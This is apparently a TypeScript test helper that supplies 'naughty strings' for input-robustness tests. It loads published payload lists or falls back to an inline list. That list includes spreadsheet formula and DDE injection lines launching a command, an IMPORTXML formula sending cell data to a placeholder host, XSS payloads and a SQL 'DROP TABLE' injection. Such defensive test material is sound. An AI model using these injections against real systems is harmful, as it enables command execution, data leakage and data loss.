/** Texts that have broken other programs: the published lists where they are at hand, else a few of their kind. */
import { hasShared, sharedJson, sharedText } from './shared-data';

const LISTS = ['payloads/blns.json', 'payloads/payloadbox_csv-payload.txt'];

const OWN = [
  '=1+1',
  '=IMPORTXML("http://example.test/"&A1,"//a")',
  "=cmd|' /C calc'!A0",
  'DDE ("cmd";"/C calc";"!A0")A0',
  '@SUM(1+9)*2',
  '+49 30 1234',
  '-1',
  '\t=1+1',
  '00123',
  'undefined',
  'NaN',
  '1E+02',
  '1/0',
  '0xffffffffffffffff',
  '１２３',
  '__proto__',
  'constructor',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE leads; --",
  '社會科學院語學研究所',
  'الكل في المجمو عة',
  '\u202etest\u202c',
  '👾 🙇 💁🏿‍♀️ 🇺🇸',
  'Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤',
  'two\nlines',
  '\u0001\u0002',
];

export const published = hasShared(...LISTS);

/** Said in the name of the tests that use them. */
export const whichPayloads = published
  ? 'all naughty strings and injection lines'
  : 'a list of our own (../shared/data has no payloads)';

export function payloads(): string[] {
  if (!published) return OWN;
  const lines = sharedText(LISTS[1])
    .split('\n')
    .filter((line) => line !== '');
  return [...sharedJson<string[]>(LISTS[0]), ...lines];
}
